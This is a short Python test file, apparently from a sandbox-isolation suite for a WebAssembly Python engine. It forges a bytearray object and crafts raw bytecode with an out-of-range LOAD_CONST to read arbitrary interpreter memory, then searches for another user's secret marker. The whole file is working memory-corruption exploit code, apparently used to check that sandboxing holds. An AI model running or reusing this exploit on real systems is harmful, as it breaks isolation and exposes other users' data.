# harm: a forged bytearray (LOAD_CONST beyond the constants) reads another cell's memory, or the worker's
# expect: completed failed limit
# engines: wasm
import opcode, struct, types
fake = struct.pack("<7I", 1 << 20, id(bytearray), 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0)
pointer = struct.pack("<I", id(fake) + 16)
def f(): return 1
n = ((id(pointer) + 16 - id(f.__code__.co_consts) - 12) // 4) & 0xFFFFFFFF
E = opcode.opmap["EXTENDED_ARG"]
code = bytes([opcode.opmap["RESUME"], 0, E, n >> 24, E, n >> 16 & 255, E, n >> 8 & 255,
              opcode.opmap["LOAD_CONST"], n & 255, opcode.opmap["RETURN_VALUE"], 0])
window = types.FunctionType(f.__code__.replace(co_code=code), {})()
print(type(window), len(window), flush=True)
needle = bytes([83, 69, 67]) + b"RET-OF-BOB"
at = -1
while (at := window.find(needle, at + 1, 15 << 20)) >= 0:
    print(window[at : at + 30], flush=True)
for place in (1 << 20, 14 << 20, 1 << 28, 1 << 30, 0x7FFFFFF0):
    print(place, window[place], flush=True)
